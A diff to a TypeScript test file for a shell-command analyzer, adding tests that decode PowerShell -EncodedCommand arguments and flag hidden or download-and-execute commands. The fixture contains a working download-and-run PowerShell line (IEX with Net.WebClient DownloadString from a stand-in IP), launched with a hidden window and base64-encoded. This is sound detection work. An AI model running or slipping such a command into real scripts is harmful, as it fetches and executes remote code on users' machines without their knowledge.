@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { inspectShellCommand } from '../../src/analyze/shell-command.ts'
+import { encodedPowerShellCommands, inspectShellCommand } from '../../src/analyze/shell-command.ts'
 
 describe('inspectShellCommand', () => {
   it.each([
@@ -89,9 +89,39 @@ describe('inspectShellCommand', () => {
     ['dashes', `curl${' -'.repeat(N / 2)}`],
     ['redirects', `curl${' >'.repeat(N / 2)}`],
     ['sudo', `curl |${' sudo'.repeat(N / 5)}`],
+    ['PowerShell invocations', 'powershell -e '.repeat(N / 14)],
   ])('stays linear on 100 KB of %s', (_name, command) => {
     expect(command.length).toBeGreaterThan(N - 20)
     const result = inspectShellCommand(command)
     expect(result === undefined || typeof result.kind === 'string').toBe(true)
+  })
+})
+
+describe('PowerShell -EncodedCommand', () => {
+  const encode = (command: string) => Buffer.from(command, 'utf16le').toString('base64')
+  const downloadExec = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')"
+
+  it('decodes the command under every accepted spelling of the option and judges it', () => {
+    for (const option of ['-EncodedCommand', '-enc', '-e', '-ec', '/enc', '-ENCODEDCOMMAND']) {
+      const finding = inspectShellCommand(`powershell.exe -NoProfile -WindowStyle Hidden ${option} ${encode(downloadExec)}`)
+      expect(finding, option).toMatchObject({ kind: 'download-exec' })
+      expect(finding!.detail).toContain('hidden in a PowerShell -EncodedCommand')
+      expect(finding!.detail).toContain('DownloadString')
+    }
+  })
+
+  it('an encoded command that does nothing worse is still reported as hidden', () => {
+    expect(inspectShellCommand(`pwsh -enc ${encode('Write-Output hello')}`)).toMatchObject({ kind: 'hidden-command' })
+    expect(inspectShellCommand(`pwsh -enc ${encode('Write-Output hello')}`)!.detail).toContain('Write-Output hello')
+  })
+
+  it('is not confused by other options or other programs', () => {
+    expect(inspectShellCommand('powershell -ExecutionPolicy Bypass -File build.ps1')).toBeUndefined()
+    expect(inspectShellCommand(`node -e ${encode(downloadExec)}`)).toBeUndefined()
+    expect(inspectShellCommand('powershell -e notbase64!')).toBeUndefined()
+  })
+
+  it('lists the decoded commands', () => {
+    expect(encodedPowerShellCommands(`powershell -enc ${encode('a b c')} ; pwsh -e ${encode('d e f')}`)).toEqual(['a b c', 'd e f'])
   })
 })
